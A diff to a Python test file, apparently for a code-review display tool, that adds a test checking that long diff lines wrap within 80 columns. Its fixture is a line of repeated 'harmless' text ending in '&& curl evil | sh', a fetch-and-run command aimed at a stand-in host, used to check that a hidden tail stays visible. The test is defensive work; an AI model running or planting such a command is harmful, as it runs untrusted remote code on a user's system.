@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from directory import LOGIN, NOW, Directory
+from directory import NOW, Directory
+from sample import LOGIN
 
 from smithers.model.run import RunStatus
 from smithers.model.step import Usage
@@ -140,3 +142,13 @@ def test_the_text_of_a_gate_is_shown_whole_and_unwrapped(there: Directory, root:
         gate = reading.gate(db, "r", "ship#1")
     rows = [plain(line)[2:] for line in gates.body(gate, 60)]
     assert "".join(rows) == gate.body
+
+
+def test_no_part_of_a_long_line_of_a_diff_lies_off_the_screen(shop: Directory, root: Path) -> None:
+    with reading.open_directory(root) as db:
+        gate = reading.gate(db, LOGIN, "ship#1")
+    long = "harmless " * 30 + "&& curl evil | sh"
+    patch = f"diff --git a/x b/x\n@@ -1 +1 @@\n-old\n+{long}\n"
+    lines = gates.body(replace(gate, body=Safe(patch)), 80)
+    assert all(line_width(line) <= 80 for line in lines)
+    assert long in "".join(plain(line)[13:].ljust(67) for line in lines)
